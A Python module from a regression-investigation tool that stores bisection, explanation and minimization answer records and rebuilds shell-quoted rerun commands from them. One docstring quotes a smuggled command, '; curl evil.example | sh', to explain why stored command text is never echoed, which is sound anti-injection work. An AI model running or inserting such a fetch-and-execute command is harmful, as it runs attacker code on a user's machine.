"""What an investigation answered, as a record stored beside the runs it rests on (schemas/answer-v1.schema.json):
a bisection's endpoints, criterion and why, first bad and last good release, each tested release's class and
evidence, the mode and why, the layer at the boundary, and the command that asks the same question again. `show`
lists them, `issue` reports the latest, push/pull/copy carry them with the runs. A record is data from whoever wrote
the store: every reader escapes its text.
"""

from __future__ import annotations

import json
import re
import shlex
from typing import Any, Sequence

from ..bundle.registry import Bundle, Registry, utc_now
from .bisection import BisectResult

BISECTION = "bisection"


def _plain(value: Any) -> Any:
    """JSON-plain data (what msgpack and the schema take): tuples become lists, anything else its str."""
    return json.loads(json.dumps(value, default=str))


def bisect_command(ref: str, result: BisectResult, forced_mode: str | None) -> str:
    """The command that asks the same question again of the store that holds the record (the flags the user gave,
    not what was chosen; no --store: a bug report's reader has the bundle elsewhere)."""
    args = ["reprobundle", "bisect", ref, "--good", result.good, "--bad", result.bad]
    if result.nightly is not None:
        args.append("--nightly")
    if forced_mode is not None:
        args.append("--retrace" if forced_mode == "retrace" else "--frozen")
    if result.by:
        args += ["--by", result.by]
    return " ".join(shlex.quote(a) for a in args)


def reported_run(result: BisectResult) -> str | None:
    """The run a report of the bisection shows (`issue --run`): the first bad release's probe (beside the good one,
    timed together when time judged), not the latest stored replay (explain's experiments are stored replays too);
    one answer, one replay reported, one title. A time answer's confirmation, which timed the first bad release
    beside the last good one (the bisection's probes time each release beside the good endpoint), where it ran."""
    confirming = [r for r in result.confirm_runs if r.get("requested") == result.first_bad and r.get("run_id")]
    run = confirming[0] if confirming else result.runs.get(result.first_bad) or {}
    return str(run["run_id"]) if run.get("run_id") else None


def bisection_answer(bundle: Bundle, result: BisectResult, command: str, answer_id: str) -> dict:
    """The answer record of a finished bisection of `bundle`."""
    from .. import __version__

    answer = {"good": result.good, "bad": result.bad, "criterion": result.criterion, "first_bad": result.first_bad,
              "last_good": result.last_good, "mode": result.mode, "mode_why": result.mode_why, "why": result.why,
              "by": result.by, "classes": dict(result.classes), "evidence": dict(result.evidence),
              "left_out": dict(result.left_out), "nightly": result.nightly, "layer": result.layer,
              "also": list(result.also), "changed_defaults": result.changed_defaults,
              "beyond_ends": list(result.beyond_ends), "set_aside": list(result.set_aside),
              "confirmation": result.confirmation,
              "reported_run": reported_run(result), "unfinished": result.unfinished, "cut_at": result.cut_at,
              "resumed": result.resumed}
    if result.changes:  # every change in the window, the headline first, each with its own stored answer
        from .window_changes import change_entry

        answer["changes"] = [change_entry(c, {"answer_id": c.answer_id}) for c in [result, *result.changes]]
    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(), "kind": BISECTION,
            "command": command, "runs": sorted({str(r["run_id"]) for r in [*result.runs.values(), *result.confirm_runs,
                                                                   *result.also_runs] if r.get("run_id")}),
            "answer": _plain(answer), "reprobundle": __version__}


def store_bisection(registry: Registry, bundle: Bundle, result: BisectResult, command: str,
                    reuse: dict | None = None) -> str | None:
    """The bisection's answer stored beside its runs (with `reuse`: what it was asked, reuse_key's); its id (None
    for a read-only store, which kept no runs)."""
    if registry.store.read_only:
        return None
    return registry.put_answer(_with_reuse(bisection_answer(bundle, result, command, Registry.new_run_id()), reuse))


def latest_bisection(answers: Sequence[dict]) -> dict | None:
    """The latest stored bisection among a bundle's answer records (oldest first), or None."""
    found = [a for a in answers if a.get("kind") == BISECTION]
    return found[-1] if found else None


EXPLANATION = "explanation"


def explain_command(ref: str, specs: Sequence[Any], forced_mode: str, by: str | None) -> str:
    """The explain command that asks the same question again (the flags the user gave)."""
    args = ["reprobundle", "explain", ref]
    for spec in specs:
        args += ["--jax", spec.jax] if not spec.settings else ["--variant", f"{spec.jax}:{spec.settings.describe()}"]
    if forced_mode != "auto":
        args.append("--retrace" if forced_mode == "retrace" else "--frozen")
    if by:
        args += ["--by", by]
    return " ".join(shlex.quote(a) for a in args)


def _experiment_summary(e: dict) -> dict:
    keep = ("kind", "what", "setting", "status", "measured", "outputs_vs_baseline", "vs_baseline", "vs_candidate",
            "screen", "default")
    return {k: e.get(k) for k in keep}


def explanation_answer(bundle: Bundle, result: dict, command: str, answer_id: str) -> dict:
    """The answer record of a finished explanation of `bundle`: the two contenders, mode and criterion and why, the
    diagnosis (kind, the sentence, the changed default it names, the lines to paste, where it still works, the
    setting that worked), each experiment's outcome, what was not tried and why."""
    from .. import __version__

    d = result["diagnosis"]
    found = d.get("workaround") or d.get("partial") or d.get("cause")
    answer = {"baseline": result["baseline"], "candidate": result["candidate"], "platform": result["platform"],
              "mode": result["mode"], "mode_why": result.get("mode_why"), "by": result["by"],
              "by_why": result.get("by_why"), "regression": result.get("regression"),
              "diagnosis": {"kind": d["kind"], "summary": d["summary"], "default": d.get("default"),
                            "lines": d.get("lines"), "reach": d.get("reach"),
                            "setting": found.get("setting") if found else None},
              "experiments": [_experiment_summary(e) for e in result["experiments"]],
              "not_tried": list(result.get("not_tried") or [])}
    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(), "kind": EXPLANATION,
            "command": command, "runs": sorted({str(r["run_id"]) for r in result["runs"] if r.get("run_id")}),
            "answer": _plain(answer), "reprobundle": __version__}


def store_explanation(registry: Registry, bundle: Bundle, result: dict, command: str,
                      reuse: dict | None = None) -> str | None:
    """The explanation's answer stored beside its runs (with `reuse`); its id (None for a read-only store)."""
    if registry.store.read_only:
        return None
    return registry.put_answer(_with_reuse(explanation_answer(bundle, result, command, Registry.new_run_id()),
                                           reuse))


def latest_explanation(answers: Sequence[dict]) -> dict | None:
    """The latest stored explanation among a bundle's answer records (oldest first), or None."""
    found = [a for a in answers if a.get("kind") == EXPLANATION]
    return found[-1] if found else None


COMMIT_BISECTION = "commit-bisection"


def commit_bisection_answer(bundle: Bundle, answer: dict, runs: Sequence[dict], command: str, answer_id: str) -> dict:
    """The answer record of a finished commit bisection of `bundle` (investigate/commit_bisect.py's answer)."""
    from .. import __version__

    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(),
            "kind": COMMIT_BISECTION, "command": command,
            "runs": sorted({str(r["run_id"]) for r in runs if r.get("run_id")})[:400], "answer": _plain(answer),
            "reprobundle": __version__}


def store_commit_bisection(registry: Registry, bundle: Bundle, answer: dict, runs: Sequence[dict],
                           command: str, reuse: dict | None = None) -> str | None:
    """The commit bisection's answer stored beside its runs (with `reuse`); its id (None for a read-only store)."""
    if registry.store.read_only:
        return None
    return registry.put_answer(_with_reuse(commit_bisection_answer(bundle, answer, runs, command,
                                                                   Registry.new_run_id()), reuse))


def latest_commit_bisection(answers: Sequence[dict]) -> dict | None:
    """The latest stored commit bisection among a bundle's answer records (oldest first), or None."""
    found = [a for a in answers if a.get("kind") == COMMIT_BISECTION]
    return found[-1] if found else None


MINIMIZATION = "minimization"


def minimization_answer(bundle: Bundle, found: Any, command: str, answer_id: str) -> dict:
    """The answer record of a minimization of `bundle` (minimize.py's Minimization `found`): the two contenders, the
    property, the ops before and after, why it stopped (a search --max-time or Ctrl-C cut short is `unfinished`),
    the reduced bundle's ref and whether its fresh replay still showed the property; the runs are that replay's."""
    from .. import __version__

    answer = {"contenders": list(found.contenders), "property": found.property, "bits": found.bits,
              "ops_before": found.ops_before, "ops_after": found.ops_after, "stopped": found.stopped,
              "packed": found.packed, "holds": (found.check or {}).get("holds"),
              "unfinished": None if found.stopped == "done" else f"the search stopped: {found.stopped}"}
    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(), "kind": MINIMIZATION,
            "command": command, "runs": sorted({str(r["run_id"]) for r in found.runs if r.get("run_id")}),
            "answer": _plain(answer), "reprobundle": __version__}


# -- reuse: an investigation is a plan of steps over stored answers -------------------------------------------------


def _with_reuse(record: dict, reuse: dict | None) -> dict:
    return {**record, "reuse": reuse} if reuse else record


def origin(registry: Registry) -> dict:
    """Where a record was computed: this machine and the store it was written to. A record that push, pull or copy
    brought from another store names that one (they copy records as they are), so it is never reused here."""
    import socket

    return {"host": socket.gethostname(), "store": registry.url}


def builds_of(manager, versions: Sequence[str]) -> dict[str, list[str]]:
    """Each release's environment identity here: `jax V jaxlib W BUILD` of every cached environment of it (a
    release's, not a local interpreter's nor a commit's), [] where none is cached; a rebuilt, added or removed
    environment changes it."""
    envs = [e for e in manager.list() if not e.local and e.over is None]
    return {v: sorted(f"jax {e.jax_version} jaxlib {e.jaxlib_version} {e.build}" for e in envs if e.jax_version == v)
            for v in sorted(set(versions))}


def reuse_key(registry: Registry, step: str, asked: dict, builds: dict[str, list[str]]) -> dict:
    """What a stored answer was asked (`asked`: the window, the mode and criterion as given, the options that
    change it), on which builds, computed where: the record's `reuse`, matched exactly by `reusable`."""
    return {"step": step, "asked": _plain(asked), "builds": builds, "origin": origin(registry)}


def reusable(registry: Registry, bundle: Bundle, kind: str, asked: dict, manager) -> dict | None:
    """The latest stored answer of `kind` of this bundle that was asked exactly `asked`, computed in this store on
    this machine, over builds that are still the ones here (builds_of), and finished; None where there is none:
    compute it. A record without `reuse` (an older reprobundle's), that differs in anything, or that --max-time cut
    short (`unfinished`: resumable's) is never reused as an answer."""
    return next((r for r in _matching(registry, bundle, kind, asked, manager) if not unfinished(r)), None)


def resumable(registry: Registry, bundle: Bundle, kind: str, asked: dict, manager) -> dict | None:
    """The latest stored answer `reusable` would match but for --max-time having cut it short: what the next search
    of the same question goes on from (resume_windows). None where there is none, or a finished one is newer."""
    latest = next(iter(_matching(registry, bundle, kind, asked, manager)), None)
    return latest if latest is not None and unfinished(latest) else None


def _matching(registry: Registry, bundle: Bundle, kind: str, asked: dict, manager):
    """The stored answers of `kind` asked exactly `asked`, here, over the builds here, newest first."""
    if registry.store.read_only:
        return
    here, wanted = origin(registry), _plain(asked)
    for record in reversed(registry.answers(bundle.ref.bundle_id)):
        key = record.get("reuse")
        if record.get("kind") != kind or record.get("bundle_id") != bundle.ref.bundle_id or not isinstance(key, dict):
            continue
        builds = key.get("builds")
        if key.get("asked") == wanted and key.get("origin") == here and isinstance(builds, dict) and builds and \
                builds == builds_of(manager, list(builds)):
            yield record


def unfinished(record: dict) -> bool:
    """Whether a stored answer is one --max-time cut short: its search, a change of its window, its layer, a kind
    of change it did not examine."""
    a = record.get("answer") or {}
    return bool(a.get("unfinished") or any(isinstance(c, dict) and c.get("unfinished") for c in
                                           [*(a.get("changes") or []), *(a.get("set_aside") or [])]))


def resume_windows(record: dict) -> list[dict]:
    """The windows a stored bisection --max-time cut short had narrowed, each where the next search of its mode and
    criterion starts (bisection.resumed_window): {"mode", "criterion", "last_good", "first_bad", "classes",
    "evidence", "cut_at"}; the headline's with its classes, another change's with its own ends. A kind found as several
    changes (split) is searched again from its endpoints: no one window stands for it."""
    a = record.get("answer") or {}
    head = {k: a.get(k) for k in ("mode", "criterion", "last_good", "first_bad", "classes", "evidence", "cut_at")}
    others = [{k: c.get(k) for k in ("mode", "criterion", "last_good", "first_bad", "cut_at")}
              for c in (a.get("changes") or [])[1:] if isinstance(c, dict)]
    windows = [head, *others]
    kinds = [(w["mode"], w["criterion"]) for w in windows]
    return [w for w in windows if kinds.count((w["mode"], w["criterion"])) == 1]


def stored_ago(created: str | None) -> str:
    """`stored 2 min ago`, from a record's `created` (UTC)."""
    from datetime import UTC, datetime

    try:
        then = datetime.strptime(str(created), "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=UTC)
    except ValueError:
        return "stored"
    s = max(0.0, (datetime.now(UTC) - then).total_seconds())
    said = f"{s:.0f} s" if s < 90 else f"{s / 60:.0f} min" if s < 5400 else f"{s / 3600:.0f} h" if s < 172800 \
        else f"{s / 86400:.0f} days"
    return f"stored {said} ago"


def stored_bisection(record: dict, answers: Sequence[dict] = ()) -> BisectResult:
    """A stored bisection's answer as the BisectResult the steps after it read (no runs: `reported_run` is the
    record's), with every change it listed after the headline as its `changes` (`answers`: the bundle's answer
    records, where each change's own answer is stored: its `answer_id`; a change whose record is not among them is
    read from its entry in the list)."""
    result = _stored_result(record)
    listed = record["answer"].get("changes")
    own = {r.get("answer_id"): r for r in answers if r.get("kind") == BISECTION and isinstance(r.get("answer"), dict)}
    entries = [c for c in listed[1:] if isinstance(c, dict)] if isinstance(listed, list) else []
    result.changes = [_stored_change(c, own, result) for c in entries
                      if c.get("first_bad") and c.get("last_good") and c.get("criterion")]
    return result


def _stored_result(record: dict) -> BisectResult:
    a = record["answer"]
    return BisectResult(a["good"], a["bad"], a["criterion"], a["first_bad"], a["last_good"],
                        classes=dict(a.get("classes") or {}), evidence=dict(a.get("evidence") or {}),
                        nightly=a.get("nightly"), by=a.get("by"), why=a.get("why") or "", layer=a.get("layer"),
                        left_out=dict(a.get("left_out") or {}), mode=a.get("mode") or "frozen",
                        mode_why=a.get("mode_why"), answer_id=record.get("answer_id"), also=list(a.get("also") or []),
                        changed_defaults=a.get("changed_defaults"), beyond_ends=list(a.get("beyond_ends") or []),
                        set_aside=list(a.get("set_aside") or []), confirmation=a.get("confirmation"))


def _stored_change(entry: dict, own: dict[Any, dict], head: BisectResult) -> BisectResult:
    """A change the headline's answer lists: its own stored answer where it is among the records (and is that
    change), else its entry (its releases, kind, mode, layer, its confirmed ratio)."""
    record = own.get(entry.get("answer_id"))
    if record is not None and all(record["answer"].get(k) == entry[k] for k in ("first_bad", "last_good",
                                                                               "criterion")):
        return _stored_result(record)
    ratio = entry.get("ratio")
    confirmation = {"confirmed": True, "ratio": ratio, "ci95": entry.get("ci95")} if ratio is not None else None
    return BisectResult(head.good, head.bad, str(entry["criterion"]), str(entry["first_bad"]),
                        str(entry["last_good"]), why=str(entry.get("why") or ""),
                        layer=entry.get("layer") if isinstance(entry.get("layer"), dict) else None,
                        mode=str(entry.get("mode") or "frozen"), outputs_apart=entry.get("outputs_apart"),
                        answer_id=None, confirmation=confirmation)


BYS = ("outputs", "bits", "time")
_LABEL = re.compile(r"^(?P<jax>\S+?)(?P<retraced> retraced)?(?: \[(?P<settings>.*)\])?$", re.S)


def asked_again(record: dict, ref: str) -> str:
    """The command that asks a stored answer's question again of `ref`, rebuilt from the record's fields and each
    word shell-quoted: what a report shows for pasting. Never the record's own `command` text, which is whatever
    the store's writer put there (a hostile one's "...; curl evil.example | sh" would reach a reader's shell)."""
    found = record.get("answer")
    a: dict = found if isinstance(found, dict) else {}
    mode = "--retrace" if a.get("mode") == "retrace" else "--frozen"
    by = ["--by", str(a["by"])] if a.get("by") in BYS else []
    if record.get("kind") == EXPLANATION:
        args = ["reprobundle", "explain", ref]
        for label in (a.get("baseline"), a.get("candidate")):
            match = _LABEL.match(str(label or "?"))
            jax, settings = (match["jax"], match["settings"]) if match else (str(label), None)
            args += ["--variant", f"{jax}:{settings}"] if settings else ["--jax", jax]
        return " ".join(shlex.quote(w) for w in [*args, mode, *by])
    args = ["reprobundle", "bisect", ref, "--good", str(a.get("good") or "?"), "--bad", str(a.get("bad") or "?")]
    if isinstance(a.get("nightly"), dict):
        args.append("--nightly")
    return " ".join(shlex.quote(w) for w in [*args, mode, *by])
